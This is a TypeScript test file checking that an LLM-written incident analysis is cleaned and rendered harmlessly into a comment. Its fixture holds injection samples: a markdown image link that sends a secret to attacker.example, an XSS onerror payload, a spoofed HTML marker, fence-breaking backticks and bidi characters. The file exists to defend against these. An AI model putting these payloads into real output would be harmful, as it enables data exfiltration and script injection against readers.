import { describe, expect, it } from 'vitest';
import {
  ANALYSIS_HEADING,
  ANALYSIS_MARKER,
  analysisComment,
  cleanAnswer,
} from '../../../src/analysis/render-analysis.ts';

const HOSTILE = [
  'Likely cause: promtail 6.16.0 pushes to Loki with a new client that @platform-team should review.',
  '![x](https://attacker.example/collect?d=secret) [click](https://attacker.example)',
  '<img src=x onerror=alert(1)> <details open>',
  '<!-- guard:soak --> ``` end the fence',
  'Key seen: ghp_1234567890abcdefghijABCDEFGHIJ123456',
  '\u202eevil\u202c zero\u200bwidth \u0007bell',
].join('\n');

const comment = (answer: string) =>
  analysisComment({
    answer: cleanAnswer(answer),
    analyst: { id: 'openai', model: 'gpt-4o-mini' },
    clusters: ['dev-2'],
    events: 3,
  });

describe('cleanAnswer', () => {
  it('keeps the text of an ordinary answer', () => {
    expect(cleanAnswer('  Hypothesis: Loki rejects pushes.\r\n\r\n\r\nCheck: the 429s.  ')).toBe(
      'Hypothesis: Loki rejects pushes.\n\nCheck: the 429s.',
    );
  });

  it('drops controls, bidi overrides and zero-width characters, and redacts credentials', () => {
    const out = cleanAnswer(HOSTILE);

    for (const invisible of ['\u202e', '\u202c', '\u200b', '\u0007']) expect(out).not.toContain(invisible);
    expect(out).toContain('evil zerowidth bell');
    expect(out).not.toContain('ghp_1234567890');
  });

  it('cuts an answer at a word to 2,000 characters and says so', () => {
    const words = Array.from({ length: 1_000 }, (_, i) => `word${i}`).join(' ');

    const out = cleanAnswer(words);

    expect([...out.replaceAll('\n', ' ')].length).toBeLessThanOrEqual(2_000);
    expect(out.endsWith(' …')).toBe(true);
    expect(out.replaceAll('\n', ' ')).toMatch(/ word\d+ …$/);
  });

  it('wraps long lines at 100 columns on spaces', () => {
    const out = cleanAnswer('alpha '.repeat(60).trim());

    expect(out.split('\n').every((line) => line.length <= 100)).toBe(true);
    expect(out.replaceAll('\n', ' ')).toBe('alpha '.repeat(60).trim());
  });

  it('is empty when nothing printable is left', () => {
    expect(cleanAnswer(' \u200b\n\u0000 ')).toBe('');
  });
});

describe('analysisComment', () => {
  it('is the marked, labelled section, saying who wrote it and from what', () => {
    const body = comment('Loki rejects pushes from the new client.');

    expect(body.startsWith(`${ANALYSIS_MARKER}\n${ANALYSIS_HEADING}\n`)).toBe(true);
    expect(ANALYSIS_HEADING).toBe('### Analysis (generated, verify before acting)');
    expect(body).toContain('(`openai`, `gpt-4o-mini`)');
    expect(body).toContain('3 recent Kubernetes events on dev-2');
    expect(body).toContain("GUARD's verdict and this rollback do not depend on it");
  });

  it('renders a hostile answer inert: inside a fence it cannot close, no marker, no HTML, no links', () => {
    const lines = comment(HOSTILE).split('\n');
    const open = lines.findIndex((l) => /^`{3,}$/.test(l));
    const fence = lines[open]!;
    const inside = lines.slice(open + 1, -1);

    expect(fence.length).toBeGreaterThan(3);
    expect(lines.at(-1)).toBe(fence);
    expect(inside.some((l) => new RegExp(`^\`{${fence.length},}`).test(l))).toBe(false);
    expect(inside.join('\n')).toContain('@platform-team');
    expect(inside.join('\n')).toContain('![x](https://attacker.example');
    // The only marker is GUARD's own; the model's `<!--` is broken.
    expect(lines.join('\n').match(/<!--/g)).toHaveLength(1);
  });

  it('keeps only model-id characters, so a strange model name cannot break out of its code span', () => {
    const body = analysisComment({
      answer: 'x',
      analyst: { id: 'bedrock', model: 'anthropic.claude-3-haiku-20240307-v1:0`<b>@you' },
      clusters: [],
      events: 0,
    });

    expect(body).toContain('`anthropic.claude-3-haiku-20240307-v1:0b@you`');
    expect(body).toContain('no Kubernetes events');
  });
});
